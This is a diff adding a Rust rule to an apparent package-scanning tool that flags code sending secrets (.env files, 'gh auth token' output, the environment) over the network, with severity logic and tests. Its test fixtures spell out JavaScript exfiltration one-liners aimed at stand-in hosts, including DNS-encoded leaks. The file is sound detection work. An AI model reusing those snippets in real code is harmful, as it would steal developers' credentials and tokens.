@@ -1,0 +1,85 @@
+//! Rule `secret-flow`.
+
+use crate::flow::Source;
+use crate::model::Severity;
+use crate::package::Package;
+use crate::rules::{Emitter, code_files, is_doc_path};
+
+crate::declare_rule! {
+    /// A secret flows into what leaves the machine: the whole environment, a credential file
+    /// (`.env`, `.npmrc`, SSH keys, cloud or git credentials, wallets) or a credential helper's
+    /// output (`gh auth token`) reaches the URL, headers or body of a network request, a DNS
+    /// name or an uploading command (`curl -d`), through variables, object literals, templates,
+    /// `JSON.stringify`/base64 wrappers and local function parameters (see the flow pass of the
+    /// engine). `critical` in code that runs on install, on `require` or as a declared command;
+    /// `high` elsewhere; `medium` in bundles (minified, or over 200 KB: names are tracked
+    /// without scopes). One secret-named variable (`process.env.X_TOKEN`) sent in a body is
+    /// `medium` (a client may post its own key); in an `Authorization` header it is no flow.
+    id: "secret-flow",
+    category: Data,
+    severity: High,
+    capability: Some(crate::model::Capability::Environment),
+    title: "sends secrets over the network",
+    incident: "dotenv and GitHub-token stealers (2023-2025) that post .env contents or `gh auth token` output",
+    case_file: "index.js",
+    flag: ["const fs = require('fs'); const https = require('https'); function send(d) { https.request({ host: 'h.example', headers: { 'x-d': Buffer.from(JSON.stringify(d)).toString('base64') } }).end() } const cfg = parse(fs.readFileSync('.env', 'utf8')); send(cfg)",
+           "const t = require('child_process').execSync('gh auth token').toString(); fetch('https://t.example/c', { method: 'POST', body: JSON.stringify({ t }) })",
+           "const info = { e: process.env }; const s = JSON.stringify(info); require('dns').lookup(Buffer.from(s).toString('hex').slice(0, 60) + '.x.example', () => {})"],
+    pass: ["const key = process.env.ACME_API_KEY; fetch('https://api.acme.example/v1', { headers: { Authorization: `Bearer ${key}` } })",
+           "const fs = require('fs'); const cfg = fs.readFileSync('.env', 'utf8'); module.exports = cfg; fetch('https://docs.example/ping')",
+           "const { spawn } = require('child_process'); spawn('node', ['build.js'], { env: process.env }); fetch(url)"],
+}
+
+fn check(pkg: &Package, out: &mut Emitter) {
+    for f in code_files(pkg) {
+        if is_doc_path(&f.path) {
+            continue;
+        }
+        let Some(js) = &f.js else { continue };
+        let Some(flow) = js.flows.iter().max_by_key(|f| f.source) else {
+            continue;
+        };
+        let reachable =
+            pkg.is_install_file(f) || pkg.is_entry_file(f) || pkg.bin_files.contains(&f.path);
+        // Names are tracked without scopes: in a bundle (minified names like `e` reused in every
+        // function) two variables of one name are often different things, so a flow there is
+        // weak evidence (@tybys/wasm-util 0.10.5's minified build).
+        let bundle = f.minified || f.text.len() > 200 * 1024;
+        let sev = match flow.source {
+            Source::Secrets if bundle => Severity::Medium,
+            Source::Secrets if reachable => Severity::Critical,
+            Source::Secrets => Severity::High,
+            Source::Token if pkg.is_install_file(f) => Severity::High,
+            Source::Token => Severity::Medium,
+            Source::Host => Severity::Low,
+        };
+        out.hit_sev(
+            sev,
+            pkg,
+            f,
+            flow.off,
+            format!("{} flows into {}", flow.what, flow.sink),
+        );
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use crate::model::Severity;
+    use crate::rules::testing::run;
+
+    const FLOW: &str = "const t = require('child_process').execSync('gh auth token').toString(); fetch('https://t.example/c', { method: 'POST', body: JSON.stringify({ t }) });";
+
+    #[test]
+    fn credential_flow_in_entry_code_is_critical() {
+        let hits = run(&super::RULE, "index.js", FLOW);
+        assert_eq!(hits.first().map(|h| h.severity), Some(Severity::Critical));
+    }
+
+    #[test]
+    fn credential_flow_in_a_big_bundle_is_only_medium() {
+        let filler = "function f(a) { return a + 1; }\n".repeat(7000);
+        let hits = run(&super::RULE, "index.js", &format!("{filler}{FLOW}"));
+        assert_eq!(hits.first().map(|h| h.severity), Some(Severity::Medium));
+    }
+}
